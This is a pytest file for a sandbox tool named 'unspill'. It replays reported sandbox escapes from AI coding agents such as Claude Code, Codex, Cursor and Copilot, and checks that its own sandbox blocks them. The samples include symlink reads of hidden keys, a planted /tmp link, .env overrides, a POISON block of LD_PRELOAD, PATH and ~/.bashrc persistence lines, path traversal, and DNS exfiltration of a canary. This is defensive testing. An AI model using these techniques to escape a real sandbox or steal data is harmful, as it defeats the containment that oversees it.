# SPDX-License-Identifier: Apache-2.0
"""Weaknesses of other agents' sandboxes, by their numbers: the same attack on unspill, and on what has no defence."""

from __future__ import annotations

import os
import socket
import stat
import threading
from contextlib import nullcontext
from pathlib import Path
from typing import TYPE_CHECKING, Final

import pytest

from tests.attack.arena import Arena, naive_bwrap, replaced, shown_as_it_is
from tests.support import is_rootfs_chosen, run_cli
from unspill import UnspillError
from unspill.model.policy import Network
from unspill.policy.hosts import Destination, Refused, parse_rules

if TYPE_CHECKING:
    pass

pytestmark = [pytest.mark.attack, pytest.mark.kernel, pytest.mark.bwrap]


def test_cve_2026_25724_a_link_is_no_way_round_a_path_that_is_hidden(arena: Arena) -> None:
    """Read a hidden file by links of the command's own: relative, absolute, through /proc, of two steps.
    Control: where the directory is shown, the same links read it."""
    ground = arena.ground
    (ground.home / "private").mkdir()
    (ground.home / "private/key").write_text("CANARY")
    script = f"""
    by_dots = {os.path.relpath(ground.home / "private/key", ground.inside())!r}
    targets = [{os.fspath(ground.home)!r} + "/private/key", by_dots, "/proc/self/cwd/" + by_dots]
    for number, target in enumerate(targets): os.symlink(target, f"link-{{number}}")
    os.symlink("link-0", "two")
    for name in ("link-0", "link-1", "link-2", "two"):
        try: text = open(name).read()
        except OSError: continue
        if text == "CANARY": won(name)
    """
    assert not arena.attack(script).won
    shown = shown_as_it_is(ground.home / "private")
    with arena.plan_changed(lambda mounts: [*mounts[:-1], shown, mounts[-1]]):
        assert len(arena.attack(script, name="other").won) == 4


def test_cve_2026_46406_a_file_in_tmp_that_others_have_planted_is_not_written(arena: Arena) -> None:
    """Somebody has planted a link at a name in the host's /tmp to which the command writes its answer; Claude Code had
    a fixed name there that everybody could read. Control: with the host's /tmp the file behind the link is written."""
    ground = arena.ground
    victim, trap = ground.home / "victim", Path("/tmp") / f"unspill-response-{os.urandom(4).hex()}"
    victim.write_text("original")
    trap.symlink_to(victim)
    try:
        script, home = f"open({os.fspath(trap)!r}, 'w').write('answer')", os.fsencode(ground.home)
        arena.attack(script)
        assert victim.read_text() == "original"
        assert stat.S_IMODE(ground.state.stat().st_mode) == 0o700
        with (
            arena.plan_changed(lambda mounts: replaced(mounts, b"/tmp", shown_as_it_is(b"/tmp", writable=True))),
            # The home directory, which lies there too, is hidden no longer
            nullcontext() if is_rootfs_chosen() else arena.plan_changed(lambda mounts: replaced(mounts, home)),
        ):
            arena.attack(script, name="other")
        assert victim.read_text() == "answer"
    finally:
        trap.unlink()


def test_cve_2025_66479_an_empty_list_of_hosts_allows_nothing(arena: Arena) -> None:
    """Ask the rules of an empty list about hosts, and run a command under it: Claude Code took an empty list for no
    list. Control: a list that names a host allows that one, and without a network namespace the command connects."""
    for host in ("example.org", "localhost", "127.0.0.1", "a.b.c", ""):
        with pytest.raises(Refused):
            parse_rules(()).judge(Destination(host=host, port=443))
    parse_rules(("example.org",)).judge(Destination(host="example.org", port=443))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        connect = f"attempt('connect', socket.create_connection, ('127.0.0.1', {listener.getsockname()[1]}), 3)"
        look = "if any('proxy' in name.lower() for name in os.environ): won('a proxy')"
        assert not arena.attack(f"{connect}\n{look}", network=Network(hosts=())).won
        with arena.without(b"--unshare-net"):
            assert arena.attack(connect, name="other").won


def test_cve_2025_59532_a_working_directory_is_never_a_root(arena: Arena) -> None:
    """Ask to run in a directory beside the project and write there; Codex made what the model named writable.
    Control: a bwrap call that binds the working directory writes to it."""
    ground = arena.ground
    beside = ground.home / "beside"
    beside.mkdir()
    for cwd in (os.fspath(beside), "../beside", f"{ground.project}/../beside"):
        try:
            result = ground.sandbox().run("echo x > written", cwd=cwd)
        except UnspillError:
            continue
        assert not result.ok
    assert os.listdir(beside) == []
    where = os.fspath(beside)
    naive_bwrap(ground.bwrap, "--bind", where, where, "--chdir", where, "sh", "-c", "echo x > written")
    assert os.listdir(beside) == ["written"]


def test_cve_2025_61260_no_file_of_the_project_moves_our_own_directories(arena: Arena) -> None:
    """The project's `.env` and `.envrc` name other places for state and configuration, as they could for Codex.
    Control: the same in the person's own environment moves the state."""
    ground = arena.ground
    theirs = ground.project / "theirs"
    lines = f"UNSPILL_STATE_DIR={theirs}/state\nXDG_STATE_HOME={theirs}\nXDG_CONFIG_HOME={theirs}\nHOME={theirs}\n"
    for name in (".env", ".envrc", ".env.local", "env"):
        ground.write(name, lines)
    ground.write("theirs/unspill/config.toml", "allow_root = true\nview = 'host'\n")
    ground.configure(f"bwrap = {os.fsdecode(ground.bwrap)!r}\n")
    told = run_cli("run", "--", "sh", "-c", "ls -A $HOME", cwd=ground.project)
    assert told.returncode == 0, told
    assert told.stdout == (b"env\ntheirs\n" if is_rootfs_chosen() else b"playground\nproject\n")
    assert sorted(os.listdir(theirs)) == ["unspill"]
    moved = {"UNSPILL_STATE_DIR": os.fspath(ground.home / "moved")}
    assert run_cli("run", "--", "true", cwd=ground.project, variables=moved).returncode == 0
    assert (ground.home / "moved").is_dir()


POISON: Final = """
export GIT_PAGER=evil LD_PRELOAD=/tmp/evil.so BASH_ENV=/tmp/evil PATH=/tmp/evil:$PATH PYTHONSTARTUP=/tmp/evil
alias ls=evil; ls() { echo evil; }; declare -x PROMPT_COMMAND=evil
echo 'export EVIL=1' >> ~/.bashrc; echo 'export EVIL=1' >> ~/.profile
mkdir -p /tmp/evil; cp /bin/true /tmp/evil/ls
"""


def test_cve_2026_22708_no_variable_of_one_command_is_there_in_the_next(arena: Arena) -> None:
    """Set variables, functions and start-up files in one command that may run, as the shell of Cursor kept them.
    Control: in one shell, with both commands in it, the second has them."""
    sandbox = arena.ground.sandbox()
    look = "env | sort; type ls; echo $PATH"
    before = sandbox.run(["bash", "-c", look]).stdout.kept()
    assert sandbox.run(["bash", "-c", POISON]).ok
    assert sandbox.run(["bash", "-c", look]).stdout.kept() == before
    assert b"evil" in sandbox.run(["bash", "-c", POISON + look]).stdout.kept()


def test_cve_2026_21523_what_changed_after_the_review_is_not_applied(arena: Arena) -> None:
    """A change set is looked at; then a later run changes it, and a file of it is exchanged in its layer. Copilot did
    what it had not shown. Control: an apply that is not told what was reviewed takes what there is now."""
    ground = arena.ground
    sandbox = ground.sandbox()
    assert sandbox.run("echo reviewed > one; echo reviewed > two; echo reviewed > three").ok
    reviewed = sandbox.changes()
    [layer] = {change.layer for change in reviewed if change.layer is not None}
    inner = Path(os.fsdecode(layer)) / "one"
    inner.unlink()
    inner.write_text("swapped\n")
    assert sandbox.run("echo swapped > two; echo swapped > four").ok
    left = {os.fsdecode(one.path) for one in sandbox.apply(reviewed=reviewed).left}
    assert {"one", "two"} <= left
    assert os.listdir(ground.project) == ["three"]
    sandbox.apply()
    assert (ground.project / "one").read_text() == (ground.project / "two").read_text() == "swapped\n"


@pytest.mark.parametrize("path", ["../victim", "sub/../../victim", "./../victim", "/../victim"])
def test_cve_2026_45482_a_path_with_dots_selects_nothing_outside(arena: Arena, path: str) -> None:
    """Apply, restore and discard by a path that leads out of the project, as a traversal in Copilot did.
    Control: joined to the project as it is, the path is the file outside."""
    ground = arena.ground
    victim = ground.home / "victim"
    victim.write_text("original")
    (ground.project / "sub").mkdir()
    sandbox = ground.sandbox()
    assert sandbox.run("echo x > victim; mkdir -p sub; echo x > sub/victim").ok
    for act in (sandbox.apply, sandbox.discard):
        try:
            act([path])
        except UnspillError:
            continue
    with pytest.raises(UnspillError):
        sandbox.restore(path)
    assert victim.read_text() == "original"
    assert os.path.samefile(ground.project / path.lstrip("/"), victim)


def test_cve_2025_54794_a_directory_whose_name_begins_alike_is_not_inside(arena: Arena) -> None:
    """Read and write a neighbour of the project whose name begins with the project's, which Claude Code took for a part
    of it. Control: a comparison of the texts says that it is inside, and with a bind it is written."""
    ground = arena.ground
    neighbour = ground.project.with_name(ground.project.name + "-private")
    neighbour.mkdir()
    (neighbour / "key").write_text("CANARY")
    script = f"""
    attempt("read", open, {os.fspath(neighbour)!r} + "/key")
    attempt("write", open, {os.fspath(neighbour)!r} + "/written", "w")
    """
    assert not arena.attack(script).won
    with pytest.raises(UnspillError):
        ground.sandbox().apply([f"../{neighbour.name}/key"])
    assert os.fspath(neighbour).startswith(os.fspath(ground.project))
    shown = shown_as_it_is(neighbour, writable=True)
    with arena.plan_changed(lambda mounts: [*mounts[:-1], shown, mounts[-1]]):
        assert arena.attack(script, name="other").won == ("read", "write")


def test_cve_2025_55284_no_question_to_a_name_server_leaves(arena: Arena) -> None:
    """Send what was read as a question to a name server, as was possible by `ping` and `dig` in Claude Code.
    Control: without the network namespace the question arrives."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(1)
        script = f"""
        question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6CANARY\\7example\\3org\\0\\0\\1\\0\\1"
        connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for address in ("127.0.0.1", "0.0.0.0"):
            try: connection.sendto(question, (address, {server.getsockname()[1]}))
            except OSError: pass
        try: socket.getaddrinfo("canary.example.org", 80)
        except OSError: pass
        else: won("resolved")
        """
        assert not arena.attack(script).won
        with pytest.raises(TimeoutError):
            server.recv(512)
        with arena.without(b"--unshare-net"):
            answered = threading.Thread(target=lambda: arena.attack(script, name="other"))
            answered.start()
            assert b"CANARY" in server.recv(512)
            answered.join()
